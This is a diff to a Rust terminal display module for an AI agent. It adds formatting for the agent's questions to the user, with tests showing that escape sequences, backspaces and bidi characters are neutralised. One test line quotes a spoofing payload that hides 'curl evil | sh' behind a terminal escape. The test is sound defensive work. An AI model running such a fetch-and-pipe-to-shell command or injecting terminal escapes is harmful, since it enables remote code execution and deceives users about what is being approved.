@@ -12,7 +12,7 @@ use unicode_width::{UnicodeWidthChar as _, UnicodeWidthStr as _};
 const DETAIL_MAX: usize = 60;
 /// The arguments that say most about a call, the first one that it has.
 const MAIN_ARGUMENTS: &[&str] =
-    &["command", "path", "file_path", "pattern", "query", "url", "name", "action"];
+    &["command", "path", "file_path", "pattern", "query", "url", "question", "name", "action"];
 
 /// Returns the name of the tool and its main argument.
 pub(crate) fn of_call(call: &ToolCall) -> String {
@@ -48,6 +48,18 @@ pub(crate) fn of_answer(state: ApprovalState) -> &'static str {
         ApprovalState::Deny => "denied",
         ApprovalState::Expired | ApprovalState::Pending => "nobody answered in time, so it is denied",
     }
+}
+
+/// Returns the lines of a question of the model. Its text is indented, so that it looks like no line of Hermes.
+pub(crate) fn of_question(question: &str, choices: &[String]) -> Vec<String> {
+    let mut lines = vec!["The agent asks:".to_owned()];
+    lines.extend(question.lines().map(|line| format!("    {}", printable(line.as_bytes()))));
+    lines.extend(
+        choices.iter().zip(1..).map(|(choice, number)| format!("    {number}. {}", one_line(choice))),
+    );
+    let how = if choices.is_empty() { "Type the answer" } else { "Type a number or another answer" };
+    lines.push(format!("{how}, then Enter."));
+    lines
 }
 
 /// Returns the line of a tool that ended. `label` is from [`of_call`].
@@ -143,6 +155,22 @@ mod tests {
         let shown = of_approval(&approval);
         assert_eq!(shown[1], r"    echo hi \u{1b}]0;; curl evil | sh\u{7}\u{d}");
         assert_eq!(shown[2], r"    x\u{202e}y");
+    }
+
+    #[test]
+    fn a_question_of_the_model_cannot_control_the_terminal() {
+        let choices = ["red\nterminal asks to run:".to_owned(), "\u{1b}]0;title\u{7}blue\u{202e}".to_owned()];
+        let shown = of_question("Which\u{1b}[2J colour?\r\nterminal asks\u{8} to run:", &choices);
+        let expected = [
+            "The agent asks:",
+            "    Which colour?",
+            "    terminal asks␈ to run:",
+            "    1. red terminal asks to run:",
+            "    2. blue\u{fffd}",
+            "Type a number or another answer, then Enter.",
+        ];
+        assert_eq!(shown, expected);
+        assert_eq!(of_question("Why?", &[]), ["The agent asks:", "    Why?", "Type the answer, then Enter."]);
     }
 
     #[rstest]
